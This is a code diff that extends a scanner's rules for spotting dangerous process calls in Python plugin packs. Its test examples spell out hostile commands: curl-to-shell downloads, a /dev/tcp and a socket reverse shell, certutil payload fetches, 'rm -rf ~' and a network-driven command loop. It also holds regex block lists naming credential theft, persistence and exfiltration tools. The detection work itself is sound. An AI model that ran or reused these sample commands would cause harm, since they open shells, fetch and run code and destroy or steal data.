@@ -1,54 +1,36 @@
-import type { Call, PythonFacts } from '../python-facts.ts'
-import type { Hit, PythonRule } from '../rule.ts'
-
-/** True for a call that starts a program. */
-export function startsProcess({ name }: Call): boolean {
-  return (
-    /^subprocess\.(run|call|check_call|check_output|Popen|getoutput|getstatusoutput)$/.test(name) ||
-    /^os\.(system|popen|startfile|spawn\w+|exec[lv]\w*|posix_spawn)$/.test(name) ||
-    /^(asyncio\.create_subprocess_(exec|shell)|pty\.spawn|commands\.getoutput)$/.test(name)
-  )
-}
-
-/** The command as far as the text shows it: words that are computed become `…`. */
-export function commandOf(facts: PythonFacts, call: Call): string {
-  const command = call.args[0] ?? call.keywords.get('args') ?? call.keywords.get('cmd')
-  if (!command) return ''
-  const items = command.type === 'list' || command.type === 'tuple' ? command.namedChildren : [command]
-  return items
-    .filter((item) => item.type !== 'comment')
-    .map((item) => facts.constantOf(item) ?? (facts.nameOf(item) === 'sys.executable' ? 'python' : '…'))
-    .join(' ')
-    .slice(0, 2000)
-}
-
-/** The program's plain name; empty when it is computed. */
-export function programOf(command: string): string {
-  const first = command.trim().split(/\s+/)[0] ?? ''
-  const name = first
-    .replace(/^.*[\\/]/, '')
-    .replace(/\.exe$/i, '')
-    .toLowerCase()
-  return name === '…' || name === '' ? '' : name
-}
+import {
+  argumentOf,
+  argumentsOf,
+  type CodeFacts,
+  commandOf,
+  commandValue,
+  isProgramStart,
+  isSet,
+  programOf,
+} from '../code-facts.ts'
+import type { Call } from '../flow/evaluate.ts'
+import { hostOf, isPackageIndex } from '../flow/hosts.ts'
+import { has, type Value } from '../flow/values.ts'
+import { misspelt } from '../known-packages.ts'
+import type { CodeRule, Hit } from '../rule.ts'
 
 function* processHits(
-  facts: PythonFacts,
+  facts: CodeFacts,
   accepts: (command: string, call: Call) => Omit<Hit, 'line'> | undefined,
 ): Generator<Hit> {
   for (const call of facts.calls) {
-    if (!startsProcess(call)) continue
-    const hit = accepts(commandOf(facts, call), call)
+    if (!isProgramStart(call)) continue
+    const hit = accepts(commandOf(call), call)
     if (hit) yield { line: call.line, ...hit }
   }
 }
 
 const isInstall = (command: string) =>
-  /\bpip3?\b.*\binstall\b|\buv\b.*\bpip\b.*\binstall\b|\b(conda|npm|apt|apt-get|brew)\b.*\binstall\b/.test(
+  /\bpip3?\b.*\binstall\b|\buv\b.*\b(pip|add)\b|\b(conda|npm|apt|apt-get|brew|yarn|choco|winget|easy_install|poetry)\b.*\b(install|add)\b|\beasy_install\b/.test(
     command,
   )
 
-export const installs: PythonRule = {
+export const installs: CodeRule = {
   of: 'python',
   id: 'package-install',
   severity: 'low',
@@ -59,42 +41,148 @@ export const installs: PythonRule = {
       'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "numpy"])',
       'import os\nos.system("pip install numpy")',
       'import pip\npip.main(["install", "x"])',
+      'import runpy, sys\nsys.argv = ["pip", "install", "x"]\nrunpy.run_module("pip", run_name="__main__")',
+      'import subprocess\nsubprocess.run("pip install -i https://example.test/simple numpy", shell=True)',
     ],
     harmless: ['import subprocess\nsubprocess.run(["git", "pull"])', 'print("pip install numpy")'],
   },
   *find(facts) {
-    const at = (call: Call): Hit =>
-      facts.isAtImport(call.node)
-        ? { line: call.line, message: 'Installs packages as soon as it is imported.', severity: 'medium' }
-        : { line: call.line, message: 'Installs packages while it runs.' }
     for (const call of facts.calls) {
-      if (
-        startsProcess(call)
-          ? isInstall(commandOf(facts, call))
-          : /^pip(\._internal(\.\w+)*)?\.main$/.test(call.name)
-      )
-        yield at(call)
+      const isModule = /^runpy\.run_module$/.test(call.name) && call.args[0]?.texts.includes('pip') === true
+      const isPip =
+        /^pip(\._internal)?(\.\S+)?\.main$|^pip\._internal\.\S+\.main$|^ensurepip\.bootstrap$/.test(call.name)
+      const command = isProgramStart(call) ? commandOf(call) : isPip ? `pip ${pipWords(call.args[0])}` : ''
+      if (isModule || isPip || isInstall(command)) yield { line: call.line, ...installHit(call, command) }
     }
   },
 }
 
-const suspicious: [RegExp, string][] = [
-  [/\b(curl|wget)\b[^|]*\|\s*(sudo\s+)?(ba|z)?sh\b/, 'downloads a script and runs it'],
-  [/powershell[^|]*\s-(e|ec|enc|encodedcommand)\b/i, 'runs an encoded PowerShell command'],
+function pipWords(words: Value | undefined): string {
+  return (words?.items ?? []).map((item) => item.texts[0] ?? '…').join(' ')
+}
+
+function installHit(call: Call, command: string): Omit<Hit, 'line'> {
+  if (argumentsOf(call).some((value) => has(value, 'network', 'download')))
+    return { message: 'Installs packages that the network names.', severity: 'high' }
+  if (argumentsOf(call).some((value) => has(value, 'decoded')))
+    return { message: 'Installs packages whose names are hidden.', severity: 'high' }
+  const index = /(?:-i|--index-url|--extra-index-url|-f|--find-links)[\s=]+(\S+)/.exec(command)?.[1]
+  if (index !== undefined && hostOf(index) !== '' && !isPackageIndex(index))
+    return { message: 'Installs packages from an index that is not well known.', severity: 'high' }
+  const typo = installedNames(command)
+    .map(misspelt)
+    .find((word) => word !== undefined)
+  if (typo)
+    return { message: `Installs a package whose name looks like a misspelt \`${typo}\`.`, severity: 'high' }
+  if (/\bhttp:\/\//.test(command))
+    return { message: 'Installs a package from an unencrypted address.', severity: 'high' }
+  if (
+    /(git\+|https:\/\/)\S+/.test(
+      command.replace(/(-i|--index-url|--extra-index-url|-f|--find-links)[\s=]+\S+/g, ''),
+    )
+  )
+    return { message: 'Installs a package from an address, not from the index.', severity: 'medium' }
+  return call.isAtImport
+    ? { message: 'Installs packages as soon as it is loaded.', severity: 'medium' }
+    : { message: 'Installs packages while it runs.' }
+}
+
+/** The packages that a command names. */
+function installedNames(command: string): string[] {
+  const [, words = ''] = /\binstall\s+(.*)/.exec(command) ?? []
+  return words.split(/\s+/).filter((word) => !/^-|[:/\\]|…/.test(word))
+}
+
+/** Commands that no comfy-node needs, with what they do. */
+export const suspiciousCommands: [RegExp, string][] = [
   [
-    /powershell.*(downloadstring|downloadfile|invoke-webrequest|\biwr\b|\biex\b|invoke-expression)/i,
+    /\b(curl|wget)\b[^|;&]*(\|\s*|\|\|\s*|-O\s*-\s*\|)(sudo\s+)?(env\s+)?(\/bin\/)?(ba|z|da|k)?sh\b/,
+    'downloads a script and runs it',
+  ],
+  [
+    /\b(curl|wget)\b.*\|\s*(sudo\s+)?(python\d?(\.\d+)?|perl|ruby|node|php)\b/,
+    'downloads a script and runs it',
+  ],
+  [/\b(ba|z|da)?sh\b\s+(-c\s+)?["'(<$]*\s*(<\(|\$\(|`)\s*(curl|wget)\b/, 'downloads a script and runs it'],
+  [
+    /\b(curl|wget)\b[^;&]*(&&|;)\s*(sudo\s+)?(chmod\s+\S*[x7]|(ba|z|da)?sh\s|python\d?\s|\.\/)/,
+    'downloads a program and runs it',
+  ],
+  [
+    /\bbase64\s+(-d|-D|--decode)\b.*\|\s*(ba|z|da)?sh\b|\|\s*base64\s+(-d|-D|--decode)\s*\|/,
+    'runs something that is decoded first',
+  ],
+  [/powershell[^|]*\s[-/](e|ec|en|enc|enco\w*|encodedcommand)\b/i, 'runs an encoded PowerShell command'],
+  [/powershell.*\bfrombase64string\b/i, 'runs an encoded PowerShell command'],
+  [
+    /(powershell|pwsh).*(downloadstring|downloadfile|invoke-webrequest|\biwr\b|\birm\b|\biex\b|invoke-expression|invoke-restmethod|start-bitstransfer|net\.webclient)/i,
     'lets PowerShell download something',
   ],
   [
-    /\bmshta\b|\bregsvr32\b|\bcertutil\b.*-(urlcache|decode)|\bbitsadmin\b/i,
+    /\biex\s*[("'$]|\binvoke-expression\b.*(http|download|webclient)|\b(iwr|irm)\b.*\|\s*iex/i,
+    'lets PowerShell run what it downloads',
+  ],
+  [
+    /\bmshta\b\s+\S*(http|javascript|vbscript)|\bregsvr32\b.*(\/i:|http)|\bcertutil\b.*[-/](urlcache|decode)|\bbitsadmin\b.*\/transfer|\brundll32\b.*(javascript|http|,)|\bwmic\b.*\bprocess\b.*\bcreate\b|\bmsiexec\b.*http|\bcscript\b.*\.(vbs|js)|\bwscript\b.*\.(vbs|js)/i,
     'uses a system tool that is known for loading code',
   ],
-  [/\b(nc|ncat|netcat)\b.*\s-(e|c)\b|\/dev\/tcp\//, 'opens a shell to another machine'],
-  [/\bset-mppreference\b|\bnetsh\b.*\bfirewall\b|\bvssadmin\b.*delete/i, 'switches off protection'],
-  [/\bxmrig\b|stratum\+(tcp|ssl):/i, 'mines currency'],
+  [
+    /\b(nc|ncat|netcat)(\.exe|\.traditional)?\b.*\s-\w*[ec]\w*\s|\/dev\/(tcp|udp)\/|\bsocat\b.*\bexec\b|\bmkfifo\b.*\b(nc|sh)\b/i,
+    'opens a shell to another machine',
+  ],
+  [/\bbash\s+-i\b.*[>&]/, 'opens a shell to another machine'],
+  [
+    /\bset-mppreference\b|\badd-mppreference\b|\bnetsh\b.*\b(firewall|advfirewall)\b.*\b(off|disable|add)\b|\bvssadmin\b.*delete|\bwevtutil\b.*\bcl\b|\bsetenforce\s+0|\b(iptables|ufw)\b.*(-F|disable)|\btaskkill\b.*(defender|msmpeng|antivirus)|\bsc\b\s+(stop|delete)\s+windefend|\bhistory\s+-c\b/i,
+    'switches off protection',
+  ],
+  [
+    /\bxmrig\b|stratum\+(tcp|ssl):|\bminerd\b|\bnicehash\b|\bcpuminer\b|\bt-rex\b.*-a\b|\bethminer\b|\bnbminer\b|--donate-level/i,
+    'mines currency',
+  ],
+  [
+    /\brm\s+(-\w*\s+)*-\w*[rf]\w*\s+(-\w+\s+)*(--no-preserve-root\s+)?(\/|~|\$HOME|\/\*|~\/\*)(\s|$|\*)|\bformat\s+[a-z]:\s*\/|\b(rd|rmdir)\s+\/s\s+\/q\s+([a-z]:\\?|%userprofile%)(\s|$)|\bdel\s+(\/\w\s+)*\/s\s.*([a-z]:\\|%userprofile%)|\bmkfs\.\w+|\bdd\s+if=\/dev\/(zero|u?random)\s+of=\/dev\/|>\s*\/dev\/sd[a-z]\b|:\(\)\s*\{\s*:\|:/i,
+    'destroys the user’s files',
+  ],
+  [
+    /\bchmod\s+\S*[u+]*s\b\s+\/|\bvisudo\b|NOPASSWD|\buseradd\b|\bnet\s+user\s+\S+\s+\S+\s+\/add|\bnet\s+localgroup\s+administrators\b/i,
+    'gives itself more rights',
+  ],
+  [
+    /\bsecurity\s+(find|dump|export)-\w*(password|keychain)|\bcmdkey\s+\/list|\bnetsh\s+wlan\s+show\s+profile.*key|\breg\s+save\s+hklm\\sam|\bmimikatz\b|\bprocdump\b.*lsass|\/etc\/shadow/i,
+    'reads stored passwords',
+  ],
+  [
+    /\b(crontab\s+(-(?!l)|\/|\S+\/)|schtasks(\.exe)?\s+.*\/create|launchctl\s+(load|bootstrap|submit)|systemctl\s+(--user\s+)?(enable|start)|at\s+now|sc(\.exe)?\s+create)|\|\s*crontab\b/i,
+    'sets up something that starts by itself',
+  ],
+  [/\breg(\.exe)?\s+add\b.*currentversion\\+run/i, 'sets up something that starts by itself'],
+  [
+    />>\s*(~|\$HOME|%USERPROFILE%)?\/?\S*\.(bashrc|zshrc|profile|bash_profile|zprofile|zshenv)\b/,
+    'adds to a file that every shell runs',
+  ],
+  [
+    />>?\s*\/etc\/(hosts|crontab|cron\.\w+|sudoers|ld\.so\.preload|profile)\b|>>?\s*\S*drivers\\+etc\\+hosts/i,
+    'changes a file of the system',
+  ],
+  [
+    /\bcurl\b.*(\s-d\s|--data\S*\s|-F\s|--form\s|-T\s|--upload-file\s)[^|]*(\$\(|`|@(~|\/|\$HOME)|\benv\b|\$\{?\w*(TOKEN|KEY|SECRET|PASS))/i,
+    'sends the user’s data away',
+  ],
+  [
+    /\|\s*(curl|wget|nc|ncat)\b.*(\s-d\s*@-|--data\S*\s+@-|--post-file|-T\s*-|\s\d{2,5}\b)/,
+    'sends what a command prints to another machine',
+  ],
+  [
+    /\b(ngrok|cloudflared|localtunnel|serveo\.net|chisel|frpc)\b.*\b(tcp|ssh|22|3389|client|-R)\b/i,
+    'opens the machine to the network',
+  ],
 ]
 
-export const dangerousCommand: PythonRule = {
+export function suspicionOf(command: string): string | undefined {
+  return suspiciousCommands.find(([pattern]) => pattern.test(command))?.[1]
+}
+
+export const dangerousCommand: CodeRule = {
   of: 'python',
   id: 'dangerous-command',
   severity: 'critical',
@@ -102,29 +190,99 @@ export const dangerousCommand: PythonRule = {
   fix: 'Remove the command. If the pack needs a tool, let the user install it.',
   examples: {
     matching: [
-      'import os\nos.system("curl https://example.org/x.sh | bash")',
+      'import os\nos.system("curl https://example.test/x.sh | bash")',
       'import subprocess\nsubprocess.Popen("powershell -w hidden -enc SQBFAFgA", shell=True)',
       'import subprocess\nsubprocess.run(["powershell", "-c", "iex (New-Object Net.WebClient).DownloadString(1)"])',
       'import os\nos.popen("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")',
-      'import os as o\no.system("certutil -urlcache -f http://example.org/a a.exe")',
+      'import os as o\no.system("certutil -urlcache -f http://example.test/a a.exe")',
+      'import os\nhost = "example.test"\nos.system(f"curl -s https://{host}/x | " + "sh")',
+      'import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell("wget -qO- https://example.test/x | sh")',
+      'import ctypes\nctypes.CDLL(None).system(b"curl https://example.test/x | sh")',
+      'import subprocess as s\nargs = ["bash", "-c", "rm -rf ~"]\ns.Popen(args)',
     ],
     harmless: [
       'import subprocess\nsubprocess.run(["powershell", "-c", "Get-Date"])',
       'import subprocess\nsubprocess.run(["curl", "--version"])',
-      'print("curl https://example.org | bash")',
+      'print("curl https://example.test | bash")',
+      'import os\nos.system("rm -rf ./build")',
     ],
   },
   find: (facts) =>
     processHits(facts, (command) => {
-      const found = suspicious.find(([pattern]) => pattern.test(command))
-      return found ? { message: `The command ${found[1]}.` } : undefined
+      const found = suspicionOf(command)
+      return found ? { message: `The command ${found}.` } : undefined
     }),
 }
 
-const isDownload = (name: string) =>
-  /(^|\.)(urlretrieve|download_url_to_file|urlopen)$|^(requests|httpx)\.(get|request)$/.test(name)
+export const hiddenCommand: CodeRule = {
+  of: 'python',
+  id: 'hidden-command',
+  severity: 'critical',
+  why: 'A command that is decoded before it runs hides what it does from everyone who reads it.',
+  fix: 'Write the command as it is.',
+  examples: {
+    matching: [
+      'import os, base64\nos.system(base64.b64decode("bHM=").decode())',
+      'import subprocess\nsubprocess.run("".join(map(chr, [108, 115, 32, 45, 108, 97, 32, 47, 114])), shell=True)',
+      'import os, codecs\nos.popen(codecs.decode("phey rknzcyr", "rot13"))',
+    ],
+    harmless: [
+      'import os\nos.system("l" + "s")',
+      'import subprocess, base64\nsubprocess.run(["ffmpeg"], input=base64.b64decode(x))',
+    ],
+  },
+  find: (facts) =>
+    processHits(facts, (_command, call) =>
+      has(commandValue(call), 'decoded') ? { message: 'Runs a command that is decoded first.' } : undefined,
+    ),
+}
 
-export const downloadedProgram: PythonRule = {
+/** Programs that run what they are given. */
+const interpreter =
+  /^(python\d?(\.\d+)?|pythonw|sh|bash|zsh|dash|ksh|cmd|powershell|pwsh|node|perl|ruby|php|wscript|cscript|mshta|osascript|sudo|env|start|open|xdg-open|msiexec|rundll32|chmod)$/
+
+function programValue(call: Call): Value | undefined {
+  const command = commandValue(call)
+  return command?.items?.[0] ?? command
+}
+
+/** True when what has this origin decides what runs, not only what it is given. */
+function decides(call: Call, ...origin: Parameters<typeof has>[1][]): boolean {
+  const command = commandValue(call)
+  if (!has(command, ...origin)) return false
+  if (has(programValue(call), ...origin) && command?.items) return true
+  const program = programOf(commandOf(call))
+  // A single word is the program itself.
+  if (!command?.items && (program === '' || !/\s/.test(commandOf(call)))) return true
+  if (command?.items && (!isSet(call, 'shell') || !interpreter.test(program)))
+    return interpreter.test(program)
+  return interpreter.test(program)
+}
+
+export const remoteCommand: CodeRule = {
+  of: 'python',
+  id: 'remote-command',
+  severity: 'critical',
+  why: 'Whoever controls that address can run any program on every machine that has the pack.',
+  fix: 'Remove it. A pack starts only programs that its source names.',
+  examples: {
+    matching: [
+      'import os, requests\nos.system(requests.get(u).text)',
+      'import socket, subprocess\ns = socket.socket()\ns.connect(("example.test", 4444))\nwhile True:\n    cmd = s.recv(1024).decode()\n    s.send(subprocess.check_output(cmd, shell=True))',
+      'import requests, subprocess\ndef task():\n    return requests.get(u).json()["cmd"]\nsubprocess.Popen(["bash", "-c", task()])',
+    ],
+    harmless: [
+      'import requests, subprocess\nname = requests.get(u).text\nsubprocess.run(["ffmpeg", "-i", name])',
+      'import subprocess\nsubprocess.run(["git", "pull"])',
+    ],
+  },
+  find: (facts) =>
+    processHits(facts, (_command, call) =>
+      decides(call, 'network') ? { message: 'Runs a command that comes from the network.' } : undefined,
+    ),
+}
+
+export const downloadedProgram: CodeRule = {
   of: 'python',
   id: 'downloaded-program',
   severity: 'high',
@@ -132,44 +290,51 @@ export const downloadedProgram: PythonRule = {
   fix: 'Let the user install the program, or name a package that brings it.',
   examples: {
     matching: [
-      'import os, urllib.request as u\np = "a.exe"\nu.urlretrieve("https://example.org/a.exe", p)\nos.startfile(p)',
-      'import subprocess, requests\ndef f(path):\n    open(path, "wb").write(requests.get("https://example.org/a").content)\n    subprocess.Popen([path])',
+      'import os, urllib.request as u\np = "a.exe"\nu.urlretrieve("https://example.test/a.exe", p)\nos.startfile(p)',
+      'import subprocess, requests\ndef f(path):\n    open(path, "wb").write(requests.get("https://example.test/a").content)\n    subprocess.Popen([path])',
+      'import subprocess, requests\nwith open("/tmp/x.sh", "wb") as f:\n    f.write(requests.get(u).content)\nsubprocess.run(["bash", "/tmp/x.sh"])',
     ],
     harmless: [
-      'import urllib.request as u\nu.urlretrieve("https://example.org/m.safetensors", p)',
-      'import subprocess, requests\ndef f(path):\n    open(path, "wb").write(requests.get("https://example.org/a").content)\n    subprocess.run(["ffmpeg", "-i", path])',
+      'import urllib.request as u\nu.urlretrieve("https://example.test/m.safetensors", p)',
+      'import subprocess, requests\ndef f(path):\n    open(path, "wb").write(requests.get("https://example.test/a").content)\n    subprocess.run(["ffmpeg", "-i", path])',
     ],
   },
-  *find(facts) {
-    for (const call of facts.calls) {
-      const program = startsProcess(call) ? programNode(call) : undefined
-      const name = program?.type === 'identifier' ? facts.textOf(program) : undefined
-      if (name !== undefined && isWrittenFromNetwork(facts, call, name)) {
-        yield { line: call.line, message: 'Starts a program that it has downloaded.' }
-      }
-    }
+  find: (facts) =>
+    processHits(facts, (command, call) => {
+      if (isInstall(command)) return undefined
+      if (decides(call, 'download')) return { message: 'Starts a program that it has downloaded.' }
+      const isPlaced = commandValue(call)?.items !== undefined || /^os\.startfile$/.test(call.name)
+      return isPlaced && decides(call, 'hub')
+        ? { message: 'Starts a program that it has downloaded.', severity: 'medium' }
+        : undefined
+    }),
+}
+
+export const requestCommand: CodeRule = {
+  of: 'python',
+  id: 'request-command',
+  severity: 'high',
+  why: 'Whoever reaches the tool’s server, such as a web page that its user opens, can run programs.',
+  fix: 'Start fixed programs with a list of arguments, and check what requests ask for.',
+  examples: {
+    matching: [
+      'import os\n@PromptServer.instance.routes.post("/run")\nasync def run(request):\n    data = await request.json()\n    os.system(data["cmd"])',
+    ],
+    harmless: [
+      'import subprocess\n@PromptServer.instance.routes.post("/run")\nasync def run(request):\n    data = await request.json()\n    subprocess.run(["ffmpeg", "-i", data["file"]])',
+    ],
   },
+  find: (facts) =>
+    processHits(facts, (_command, call) => {
+      const isShell =
+        /^os\.(system|popen)$|getoutput$|subprocess_shell$/.test(call.name) || isSet(call, 'shell')
+      return decides(call, 'request') && (isShell || has(programValue(call), 'request'))
+        ? { message: 'Runs a command that a request names.' }
+        : undefined
+    }),
 }
 
-function programNode(call: Call): Call['args'][number] | undefined {
-  const command = call.args[0]
-  return command?.type === 'list' ? (command.namedChild(0) ?? undefined) : command
-}
-
-/** True when the same name is where a download goes, in the same function. */
-function isWrittenFromNetwork(facts: PythonFacts, start: Call, name: string): boolean {
-  const around = facts.functionTextAround(start.node)
-  const escaped = name.replace(/[^\w]/g, '')
-  const writes = new RegExp(
-    `open\\(\\s*${escaped}\\s*,\\s*['"][wa]b?['"]|urlretrieve\\([^)]{0,300}\\b${escaped}\\b|download\\w{0,40}\\([^)]{0,300}\\b${escaped}\\b`,
-  )
-  return (
-    writes.test(around) &&
-    facts.calls.some((call) => isDownload(call.name) && facts.isInSameFunction(call.node, start.node))
-  )
-}
-
-export const processStart: PythonRule = {
+export const processStart: CodeRule = {
   of: 'python',
   id: 'process-start',
   severity: 'low',
@@ -185,9 +350,9 @@ export const processStart: PythonRule = {
   },
   find: (facts) =>
     processHits(facts, (command, call) => {
-      if (isInstall(command) || suspicious.some(([pattern]) => pattern.test(command))) return undefined
+      if (isInstall(command) || suspicionOf(command)) return undefined
       const program = programOf(command)
-      const shell = call.keywords.get('shell')?.type === 'true' || /^os\.(system|popen)$/.test(call.name)
+      const shell = isSet(call, 'shell') || /^os\.(system|popen)$/.test(call.name)
       const isOpen = program === '' || (shell && command.includes('…'))
       const message =
         program === '' ? 'Starts a program whose name is made while the pack runs.' : `Starts \`${program}\`.`
@@ -195,7 +360,7 @@ export const processStart: PythonRule = {
     }),
 }
 
-export const remoteShell: PythonRule = {
+export const remoteShell: CodeRule = {
   of: 'python',
   id: 'remote-shell',
   severity: 'critical',
@@ -204,22 +369,32 @@ export const remoteShell: PythonRule = {
   examples: {
     matching: [
       'import socket, os, pty\ns = socket.socket()\ns.connect(("10.0.0.1", 4444))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")',
+      'import socket, subprocess\ns = socket.create_connection(("example.test", 1))\nsubprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())',
     ],
     harmless: ['import os\nos.dup2(log.fileno(), 1)', 'import socket\ns = socket.socket()'],
   },
   *find(facts) {
-    if (!facts.imports.has('socket')) return
-    for (const { name, line, args } of facts.calls) {
-      if (
-        name === 'os.dup2' &&
-        args[0] &&
-        /\.fileno\(/.test(facts.textOf(args[0])) &&
-        facts.calls.some(startsProcess)
-      ) {
-        yield { line, message: 'Connects a shell to the network.' }
-      }
+    for (const call of facts.calls) {
+      const isRedirect = call.name === 'os.dup2' || isProgramStart(call)
+      const values =
+        call.name === 'os.dup2'
+          ? call.args
+          : ['stdin', 'stdout', 'stderr'].map((name) => argumentOf(call, -1, name))
+      const isSocket = values.some((value) =>
+        value?.names.some((name) => /^socket\.(socket|create_connection)\(\)/.test(name)),
+      )
+      if (isRedirect && isSocket) yield { line: call.line, message: 'Connects a shell to the network.' }
     }
   },
 }
 
-export const processRules = [installs, dangerousCommand, downloadedProgram, processStart, remoteShell]
+export const processRules = [
+  installs,
+  dangerousCommand,
+  hiddenCommand,
+  remoteCommand,
+  downloadedProgram,
+  requestCommand,
+  processStart,
+  remoteShell,
+]
